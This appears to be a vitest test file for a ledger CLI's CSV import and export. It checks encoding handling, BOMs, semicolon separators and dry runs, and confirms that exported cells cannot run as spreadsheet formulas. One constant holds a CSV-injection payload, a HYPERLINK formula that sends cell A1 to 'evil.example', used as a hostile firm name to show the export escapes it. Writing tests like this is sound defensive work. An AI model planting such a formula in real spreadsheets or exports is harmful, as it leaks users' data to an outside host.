/**
 * CSV as spreadsheets write it, through the real CLI: Excel's Windows-1252 "CSV (Comma
 * delimited)" is refused with a word about the encoding (and read with --encoding windows-1252),
 * UTF-8 with a BOM is read, `;`-separated files are read, --dry-run fails with bad rows, and the
 * exported review starts with a BOM and never hands a spreadsheet a formula.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type RunningServer, startServer } from '@trustledger/server';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { cli, cliJson, gql, tempDb } from './cli.ts';

const tmp = tempDb();
let server: RunningServer;
let supplierKey: string;
let clientId: string;
let relationshipId: string;
const SUPPLIER = 'Oak & Sons Furniture';
/** A firm name a spreadsheet would run as a formula. */
const FORMULA_FIRM = '=HYPERLINK("http://evil.example/?x="&A1,"Harbor Hotels")';

const api = <T = any>(key: string, query: string, variables?: Record<string, unknown>) => gql<T>(server.graphqlUrl, key, query, variables);

async function descriptions(): Promise<string[]> {
  const data = await api(supplierKey, 'query($id: ID!) { node(id: $id) { ... on Relationship { ledger(first: 100) { edges { node { type payload } } } } } }', {
    id: relationshipId,
  });
  return data.node.ledger.edges.filter((e: any) => e.node.type === 'PROMISE_MADE').map((e: any) => e.node.payload.description);
}

beforeAll(async () => {
  await cliJson(tmp.db, ['firm', 'create', SUPPLIER]);
  clientId = (await cliJson(tmp.db, ['firm', 'create', FORMULA_FIRM])).id;
  supplierKey = (await cliJson(tmp.db, ['key', 'create', SUPPLIER, '--role', 'writer'])).secret;
  const clientKey = (await cliJson(tmp.db, ['key', 'create', clientId, '--role', 'writer'])).secret;
  server = await startServer({ ...tmp.options, port: 0, rateLimitPerMinute: 0 });
  const at = '2026-01-05T09:00:00Z';
  const proposed = await api(supplierKey, 'mutation($i: ProposeRelationshipInput!) { proposeRelationship(input: $i) { relationship { id } } }', {
    i: { counterpartyId: clientId, viewerSide: 'SUPPLIER', occurredAt: at },
  });
  relationshipId = proposed.proposeRelationship.relationship.id;
  await api(clientKey, 'mutation($i: AcceptRelationshipInput!) { acceptRelationship(input: $i) { errors { message } } }', { i: { relationshipId, occurredAt: at } });
}, 120_000);

afterAll(async () => {
  await server?.close();
  tmp[Symbol.dispose]();
});

let n = 0;
let file: string;
beforeEach(() => {
  file = join(tmp.dir, `events-${++n}.csv`);
});

const importArgs = (extra: string[] = []) => ['import', file, '--relationship', relationshipId, '--as-firm', SUPPLIER, ...extra];
const promiseRow = (sep: string, ref: string, description: string) =>
  [ref, 'promise', '2026-03-02T11:00:00Z', 'supplier', 'delivery', description, '2026-04-20T16:00:00Z'].join(sep);
const HEADER = ['ref', 'type', 'occurred_at', 'promisor', 'kind', 'description', 'due_at'];

test("Excel's Windows-1252 CSV is refused, naming the encoding, and nothing is written; --encoding windows-1252 reads it", async () => {
  const text = `${HEADER.join(',')}\r\n${promiseRow(',', 'W-1', 'Café chairs – batch 1')}\r\n`;
  // What Excel's "CSV (Comma delimited)" writes: é = 0xE9, – = 0x96 in Windows-1252.
  const bytes = Buffer.from([...text].map((c) => (c === 'é' ? 0xe9 : c === '–' ? 0x96 : c.charCodeAt(0))));
  writeFileSync(file, bytes);
  for (const args of [importArgs(), importArgs(['--dry-run'])]) {
    const refused = await cli(tmp.db, args);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/line 2: byte 0xE9 is not UTF-8/);
    expect(refused.stderr).toMatch(/Windows-1252/);
    expect(refused.stderr).toMatch(/--encoding windows-1252/);
  }
  expect(await descriptions()).not.toContain('Caf\uFFFD chairs \uFFFD batch 1');
  expect(await descriptions()).toEqual([]);

  const read = await cli(tmp.db, importArgs(['--encoding', 'windows-1252']));
  expect(read.code, read.stderr).toBe(0);
  expect(await descriptions()).toEqual(['Café chairs – batch 1']);

  const unknown = await cli(tmp.db, importArgs(['--encoding', 'ebcdic']));
  expect(unknown.code).not.toBe(0);
  expect(unknown.stderr).toMatch(/utf-8.*windows-1252/);
});

test('UTF-8 with a byte-order mark (Excel\'s "CSV UTF-8") is read, the BOM not taken for part of the first column', async () => {
  writeFileSync(file, `\uFEFF${HEADER.join(',')}\r\n${promiseRow(',', 'B-1', 'Ölmühle – Lieferung')}\r\n`);
  const r = await cli(tmp.db, importArgs());
  expect(r.code, r.stderr).toBe(0);
  expect(await descriptions()).toContain('Ölmühle – Lieferung');
});

test('a ;-separated file (a spreadsheet where the decimal separator is a comma) is read', async () => {
  const quoted = '"Tische; Stühle, Bänke"';
  writeFileSync(file, `\uFEFF${HEADER.join(';')}\r\n${promiseRow(';', 'S-1', quoted)}\r\n${promiseRow(';', 'S-2', 'Regale')}\r\n`);
  const r = await cliJson(tmp.db, importArgs());
  expect(r).toMatchObject({ rows: 2, recorded: 2, bad: [] });
  expect(await descriptions()).toEqual(expect.arrayContaining(['Tische; Stühle, Bänke', 'Regale']));
});

test('--dry-run exits non-zero when rows are bad, writes nothing, and exits 0 on a clean file', async () => {
  writeFileSync(file, `${HEADER.join(',')}\n${promiseRow(',', 'D-1', 'Good row')}\n${promiseRow(',', 'D-2', 'Bad row').replace('2026-04-20T16:00:00Z', 'tomorrow')}\n`);
  const before = await descriptions();
  const bad = await cli(tmp.db, importArgs(['--dry-run']));
  expect(bad.code).toBe(1);
  expect(bad.stderr).toMatch(/line 3:/);
  expect(bad.stdout).toMatch(/dry run: nothing written/);
  expect(await descriptions()).toEqual(before);

  writeFileSync(file, `${HEADER.join(',')}\n${promiseRow(',', 'D-3', 'Only good rows')}\n`);
  const clean = await cli(tmp.db, importArgs(['--dry-run']));
  expect(clean.code, clean.stderr).toBe(0);
  expect(await descriptions()).toEqual(before);
});

test('export review starts with a BOM and writes formula-like text as text', async () => {
  const r = await cli(tmp.db, ['export', 'review', '--firm', SUPPLIER, '--as', 'supplier']);
  expect(r.code, r.stderr).toBe(0);
  expect(r.stdout.startsWith('\uFEFF')).toBe(true);
  const rows = parse(r.stdout, { bom: true, columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(1);
  // The spreadsheet shows the name; it does not run it.
  expect(rows[0].counterparty).toBe(`'${FORMULA_FIRM}`);
  for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  // Figures stay numbers.
  expect(rows[0].open_promises).toMatch(/^\d+$/);

  const plain = await cli(tmp.db, ['export', 'review', '--firm', SUPPLIER, '--as', 'supplier', '--no-bom']);
  expect(plain.stdout.startsWith('counterparty,')).toBe(true);
  writeFileSync(file, r.stdout);
  expect(readFileSync(file).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
});
